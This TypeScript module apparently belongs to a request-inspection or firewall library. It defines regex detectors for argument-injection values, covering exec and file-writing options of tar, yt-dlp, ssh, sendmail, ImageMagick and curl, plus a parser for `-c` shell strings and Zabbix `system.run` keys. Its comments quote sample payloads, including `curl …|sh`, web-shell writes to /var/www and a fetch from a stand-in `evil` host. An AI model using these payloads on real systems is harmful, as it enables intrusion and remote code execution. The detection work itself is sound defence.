/**
 * @module core/signatures/argument-injection
 * Values that a back end passes to a program's command line, where an
 * option of that program runs a command of the attacker's (932231; git's
 * own options and `ext::` URLs are 932230 in the detectors):
 * yt-dlp's `--exec 'curl …|sh'`, tar's `--checkpoint-action=exec=sh x`,
 * `--to-command`, `--use-compress-program`, rsync's `--rsh`, ssh's
 * `-oProxyCommand=…` (also as an ssh URL's host, `ssh://-oProxyCommand=…`, which git hands to ssh:
 * CVE-2017-1000117), find's `-exec`, zip's `-TT` (also among other flags, elFinder's
 * `-TvTT=id>shell.php`)/`--unzip-command`, ripgrep's `--pre`; and
 * options that write a file where the value says, which plants a script in
 * the web root: sendmail's `-X/var/www/x.php` (PHPMailer, CVE-2016-10033), and its `-C` that reads
 * a configuration from a path in an address,
 * ImageMagick's `-write /var/www/x.php` or `-write msl:…`, and curl's or
 * wget's `-o`/`-O`/`--output(-document)` after a URL a back end fetches
 * (`http://x -o /var/www/html/s.php http://evil/s.txt`).
 * The shell detectors judge a command line that a shell would read; these
 * options need no shell: the program itself starts what follows them. The
 * option must stand as an argument (the value's start, after a blank or after a NUL that
 * splits one argument into several: Bitbucket's `prefix=ax%00--exec=…`, CVE-2022-36804; in a
 * JSON array each element is a value) and what follows it must look
 * like a command: a quote, a path, a pipe, a `;`, a `$`, a backtick or a redirect.
 */

const EXEC_OPTION =
  /(?:^|[\s\0]|:\/\/)(?:--exec(?:-before-download)?|--checkpoint-action=exec|--to-command|--use-compress-program|--rsh|-o\s?ProxyCommand|-execdir|-exec|-T(?:[A-Za-z]{0,4}T)?T|--unzip-command|--pre|-providerpath)(?:=|\s+)/g;

/**
 * A file-writing option standing as an argument (the value's start, after a
 * blank or a quote, as in PHPMailer's `"a\" -oQ/tmp/ -X/var/www/x.php b"@x.org`)
 * whose target is a server-side script or a place in the web root; for
 * ImageMagick's `-write` (in a size or a geometry parameter) also any
 * absolute or parent path and any coder (`msl:`, `ephemeral:`). "Press
 * Ctrl-X", "curl -X POST" and "-write out.png" name no such target.
 */
const WRITE_OPTION =
  /(?:^|[\s"'])(?:-write\s+(?:[a-z]{2,10}:|\.{0,2}\/)|(?:-X\s?|-write\s+|-[oO]\s?|--output(?:-document)?[=\s])(?:[^\s"']*(?:\/(?:var\/www|srv\/www|htdocs|public_html|wwwroot|webapps)\/|\.(?:php\d?|phtml|phar|jspx?|aspx?|ashx|cgi)(?=$|[\s"']))|[A-Za-z]:\\[^"'\r\n]{0,200}?\\(?:webroot|wwwroot|inetpub|htdocs|webapps)\\))/;

/**
 * Sendmail's `-C` reading its configuration from a path, in a value that is an address
 * (`-C/var/www/uploads/evil.cf@example.com` as a recipient): the uploaded configuration names the
 * program sendmail delivers through.
 */
const SENDMAIL_CONFIG = /(?:^|[\s"'])-C\s?\/[\w.-]+\/[\w./-]+/;

/** What a command to run has and a sentence ("use --exec to run a command") has not: a quote, a path, a pipe, a `;`, a `$`, a backtick or a redirect. */
const COMMAND_SHAPE = /['"/|;$`>]/;

/** The quick test before WRITE_OPTION: an option that may name a file to write (`-X`, `-o`, `-O`, `-write`, `--output`). */
const OUTPUT_OPTION = /-[XwoO]|--output/;

export function execOption(value: string): boolean {
  if (value.length >= 8192 || !value.includes("-")) return false;
  if (OUTPUT_OPTION.test(value) && WRITE_OPTION.test(value)) return true;
  if (value.includes("@") && value.includes("-C") && SENDMAIL_CONFIG.test(value)) return true;
  EXEC_OPTION.lastIndex = 0;
  for (let m = EXEC_OPTION.exec(value); m !== null; m = EXEC_OPTION.exec(value)) {
    const end = m.index + m[0].length;
    if (COMMAND_SHAPE.test(value.slice(end, end + 200))) return true;
  }
  return false;
}

/**
 * The command string of a value that is a shell's arguments (`-c 'id; cat /config/bigip.conf'`, the
 * `utilCmdArgs` of F5's iControl REST `util/bash`, an appliance's diagnostics endpoint): `-c`, blanks,
 * then the string a shell runs, quoted or to the end; or of a Zabbix item key that runs one
 * (`system.run[curl -s http://…/a|sh,nowait]`). The shell detectors read it from its start, as
 * the shell does; a `-c` elsewhere (`grep -c 'foo bar'`) is left to them.
 */
export function shellCommandString(value: string): string | null {
  // Zabbix's `system.run[<command>,nowait]` item key: the agent runs the command through its shell.
  if (value.startsWith("system.run[")) {
    const end = value.lastIndexOf("]");
    const inner = value.slice(11, end < 11 ? value.length : end);
    return inner.replace(/,\s*(?:no)?wait\s*$/, "");
  }
  let i = 0;
  while (i < value.length && (value[i] === " " || value[i] === "\t")) i++;
  if (value[i] !== "-" || value[i + 1] !== "c" || (value[i + 2] !== " " && value[i + 2] !== "\t")) return null;
  i += 2;
  while (i < value.length && (value[i] === " " || value[i] === "\t")) i++;
  const q = value[i];
  if (q === "'" || q === '"') {
    const end = value.indexOf(q, i + 1);
    return value.slice(i + 1, end < 0 ? value.length : end);
  }
  return i < value.length ? value.slice(i) : null;
}
